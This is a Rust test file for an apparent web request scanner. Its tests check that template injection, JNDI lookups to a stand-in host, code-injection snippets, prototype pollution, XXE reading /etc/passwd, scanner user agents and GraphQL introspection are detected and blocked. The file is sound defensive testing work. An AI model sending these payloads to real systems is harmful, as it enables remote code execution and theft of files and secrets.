//! Code, templates, look-ups, XML and scanners.

use super::{INPUTS, Put, VALUES, check};

#[test]
fn templates_are_found() {
    check(
        "template",
        VALUES,
        1,
        &[
            "{{8*8}}",
            "${8*8}",
            "#{8*8}",
            "*{8*8}",
            "<%= 8*8 %>",
            "{{8*'8'}}",
            "@{8*8}",
            "@(8+8)",
            "<%= `id` %>",
            "{{config}}",
            "{{self.__init__}}",
            "{{''.__class__.__mro__}}",
            "{{request.application.__globals__}}",
            "{{cycler.__init__.__globals__}}",
            "${@print(md5(9))}",
            "#set($x=8*8)",
            "<#assign x=\"freemarker.template.utility.Execute\"?new()>",
            "{php}echo 1;{/php}",
            "{{constructor.constructor('f()')()}}",
            "__${T(java.lang.Runtime)}__::x",
            "{{_self.env.display('x')}}",
        ],
    );
}

#[test]
fn look_ups_are_found_in_every_place() {
    check(
        "lookup",
        &[
            Put::Query,
            Put::Form,
            Put::Json,
            Put::Multipart,
            Put::Xml,
            Put::Header,
            Put::Cookie,
            Put::Path,
            Put::Name,
        ],
        1,
        &[
            "${jndi:ldap://h.example/a}",
            "${jndi:rmi://h.example/a}",
            "${jndi:dns://h.example}",
            "${${lower:j}ndi:ldap://h.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://h.example/a}",
            "${${env:X:-j}ndi:ldap://h.example/a}",
            "${j${upper:n}di:ldap://h.example/a}",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${${sys:os.name}}",
            "$%7Bjndi:ldap://h.example/a}",
            "${base64:JHtq}",
        ],
    );
}

#[test]
fn code_is_found() {
    check(
        "code",
        VALUES,
        1,
        &[
            "<?php phpinfo();",
            "<?= `id` ?>",
            "x;system('id');",
            "${T(java.lang.Runtime).getRuntime()}",
            "$_GET['x']($_POST['y'])",
            "eval(base64_decode('eA=='))",
            "assert($_REQUEST[1])",
            "file_get_contents('/etc/passwd')",
            "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
            "a:1:{i:0;O:3:\"Foo\":0:{}}",
            "rO0ABXNyABFqYXZhLnV0aWwu",
            "java.lang.Runtime.getRuntime().exec('id')",
            "class.module.classLoader.resources",
            "%{(#_memberAccess['x']=true)}",
            "require('child_process').exec('id')",
            "process.mainModule.require('fs')",
            "{\"__proto__\":{\"a\":1}}",
            "constructor.prototype.a",
            "__import__('os').system('id')",
            "().__class__.__bases__[0].__subclasses__()",
            "os.popen('id').read()",
            "Kernel.exec('id')",
            "IO.popen('id')",
            "_$$ND_FUNC$$_function(){}()",
            "!!python/object/apply:os.system ['id']",
            "{\"x\":\"$1:constructor:constructor\"}",
        ][..],
    );
    check(
        "code",
        &[Put::Name],
        1,
        &["__proto__[a]", "class.module.classLoader.x", "constructor[prototype][a]"],
    );
}

#[test]
fn polluting_keys_of_json_are_found() {
    let headers = [(&b"content-type"[..], &b"application/json"[..])];
    let head = crate::Head { method: b"POST", target: b"/", headers: &headers };
    let verdict =
        crate::scan_request(&head, br#"{"a":{"__proto__":{"admin":true}}}"#, &crate::Policy::default());
    assert_eq!(verdict.action, crate::Action::Block, "{verdict:?}");
}

#[test]
fn xml_entities_are_found() {
    let bodies = [
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
        "<!DOCTYPE a SYSTEM \"http://h.example/x.dtd\"><a/>",
        "<!DOCTYPE a [<!ENTITY % b SYSTEM \"http://h.example/x\"> %b;]><a/>",
        "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></a>",
        "<!DOCTYPE a [<!ENTITY l \"lol\"><!ENTITY m \"&l;&l;&l;\">]><a>&m;</a>",
        "<!DOCTYPE a PUBLIC \"-//x//y\" \"http://h.example/x.dtd\"><a/>",
    ];
    check("xxe", &[Put::Query, Put::Form, Put::Json, Put::Multipart], 1, &bodies);
    for body in bodies {
        for kind in
            ["text/xml", "application/json", "application/octet-stream", "image/svg+xml", "text/plain"]
        {
            let headers = [(&b"content-type"[..], kind.as_bytes())];
            let head = crate::Head { method: b"POST", target: b"/", headers: &headers };
            let verdict = crate::scan_request(&head, body.as_bytes(), &crate::Policy::default());
            assert_eq!(verdict.action, crate::Action::Block, "{kind} {body}");
        }
    }
}

#[test]
fn scanners_are_known_by_their_names() {
    for agent in [
        "sqlmap/1.8",
        "Nikto/2.5.0",
        "gobuster/3.6",
        "Nuclei - Open-source",
        "masscan/1.3",
        "WPScan v3",
        "ffuf/2.1",
        "Mozilla/5.0 zgrab/0.x",
    ] {
        let headers = [(&b"user-agent"[..], agent.as_bytes())];
        let head = crate::Head { method: b"GET", target: b"/", headers: &headers };
        let verdict = crate::scan_request(&head, b"", &crate::Policy::default());
        assert!(verdict.findings.iter().any(|f| f.class.name() == "scanner" && f.score == 10), "{agent}");
    }
}

#[test]
fn curious_graphql_is_found() {
    let deep = format!("{{a{}{}}}", "{b".repeat(20), "}".repeat(20));
    check("graphql", &[Put::Query, Put::Json], 1, &[&deep]);
    check("graphql", INPUTS, 2, &["{__schema{types{name}}}", "query{__type(name:\"A\"){fields{name}}}"][..1]);
}
